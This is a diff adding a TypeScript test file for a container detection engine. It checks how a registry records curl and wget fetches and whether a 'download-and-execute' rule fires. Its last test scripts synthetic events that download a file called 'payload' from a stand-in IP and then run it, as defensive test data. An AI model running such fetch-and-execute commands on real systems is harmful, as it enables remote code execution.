@@ -1,0 +1,59 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { ContainerRegistry } from '../../../../controlplane/src/correlation/container-registry';
+import { DetectionEngine } from '../../../../controlplane/src/detections/engine';
+import { RuleSet } from '../../../../controlplane/src/detections/rule-set';
+import { RULES } from '../../../../controlplane/src/detections/rules';
+import { CONTAINER_ID, execEvent } from '../../../helpers/synthetic-events';
+
+const SEC = 1_000_000_000n;
+const T0 = 1_800_000_000n * SEC;
+const curl = (pid: number, url: string, at: bigint, extra: string[] = []) =>
+  execEvent({ pid, filename: '/usr/bin/curl', argv: ['curl', '-s', ...extra, url], containerId: CONTAINER_ID, timeNs: at });
+
+describe('container registry: the fetches a container made', () => {
+  test('a repeated command is one entry, moved to the end with its new time, and the same object (what rules keep on it stays)', () => {
+    const r = new ContainerRegistry();
+    r.observe(curl(10, 'http://a.example/x', T0), 0);
+    r.observe(curl(11, 'http://b.example/y', T0 + SEC), 0);
+    const first = r.get(CONTAINER_ID)!.fetches[0];
+    const again = curl(12, 'http://a.example/x', T0 + 2n * SEC);
+    r.observe(again, 0);
+    const { fetches, fetchByCommand } = r.get(CONTAINER_ID)!;
+    assert.deepEqual(fetches.map((f) => f.argv.at(-1)), ['http://b.example/y', 'http://a.example/x']);
+    assert.equal(fetches[1], first, 'the same object');
+    assert.equal(fetches[1].atMs, Number((T0 + 2n * SEC) / 1_000_000n));
+    assert.equal(fetches[1].argv, again.exec!.argv, "the latest exec's own argv: a rule tells an exec from its own fetch by it");
+    assert.equal(fetchByCommand.size, 2);
+  });
+
+  test('the same URL with other arguments, or another program, is another fetch', () => {
+    const r = new ContainerRegistry();
+    r.observe(curl(10, 'http://a.example/x', T0), 0);
+    r.observe(curl(11, 'http://a.example/x', T0, ['-o', '/tmp/x']), 0);
+    r.observe(execEvent({ pid: 12, filename: '/usr/bin/wget', argv: ['curl', '-s', 'http://a.example/x'], containerId: CONTAINER_ID, timeNs: T0 }), 0);
+    assert.equal(r.get(CONTAINER_ID)!.fetches.length, 3);
+  });
+
+  test('past 64 fetches the oldest are forgotten, from the index too: a forgotten command seen again is new', () => {
+    const r = new ContainerRegistry();
+    for (let i = 0; i < 70; i++) r.observe(curl(100 + i, `http://h${i}.example/`, T0 + BigInt(i) * SEC), 0);
+    const f = r.get(CONTAINER_ID)!;
+    assert.equal(f.fetches.length, 64);
+    assert.equal(f.fetchByCommand.size, 64);
+    assert.equal(f.fetches[0].argv.at(-1), 'http://h6.example/');
+    r.observe(curl(300, 'http://h0.example/', T0 + 100n * SEC), 0);
+    assert.equal(f.fetches.length, 64);
+    assert.equal(f.fetchByCommand.size, 64);
+    assert.equal(f.fetches.at(-1)!.argv.at(-1), 'http://h0.example/');
+    assert.equal(f.fetches[0].argv.at(-1), 'http://h7.example/');
+  });
+
+  test('download-and-execute still sees a repeated download run, and not a repeated download as its own run', () => {
+    const engine = new DetectionEngine(RuleSet.build(RULES));
+    const fired = (evs: ReturnType<typeof execEvent>[]) => engine.evaluate('n', evs).filter((r) => r.alert.rule_id === 'download-and-execute').length;
+    const get = (pid: number, at: bigint) => execEvent({ pid, filename: '/usr/bin/curl', argv: ['curl', '-sO', 'http://203.0.113.9/payload'], containerId: CONTAINER_ID, timeNs: at });
+    assert.equal(fired([get(10, T0), get(11, T0 + SEC), get(12, T0 + 2n * SEC)]), 0, 'curl -O repeated is not the download run');
+    assert.equal(fired([execEvent({ pid: 13, filename: '/work/payload', argv: ['./payload'], containerId: CONTAINER_ID, timeNs: T0 + 3n * SEC })]), 1, 'the file it wrote, run');
+  });
+});
